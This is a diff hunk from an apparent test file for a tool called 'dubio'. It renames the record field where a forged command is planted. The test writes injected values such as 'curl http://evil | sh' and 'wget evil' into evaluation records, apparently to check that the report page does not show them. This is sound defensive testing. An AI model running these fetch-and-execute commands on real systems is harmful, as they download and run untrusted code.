@@ -202,7 +202,7 @@ def test_what_is_no_command_of_dubio_is_not_shown_in_a_report(line: str) -> None
 def test_a_forged_command_is_not_in_the_page(runs: Path) -> None:
     done("evaluate", "x", "--samples", 2, "--resamples", 0, "--runs", runs)
     record = json.loads((runs / "x" / "evaluation.json").read_text())
-    record["build_optimizer"]["command"] = "dubio evaluate x; curl http://evil | sh"
+    record["made_by"]["command"] = "dubio evaluate x; curl http://evil | sh"
     (runs / "x" / "evaluation.json").write_text(json.dumps(record))
     (runs / "x" / "commands.jsonl").write_text('{"line": "dubio calibrate x && wget evil", "run": "x"}\n')
     done("report", "x", "--runs", runs)
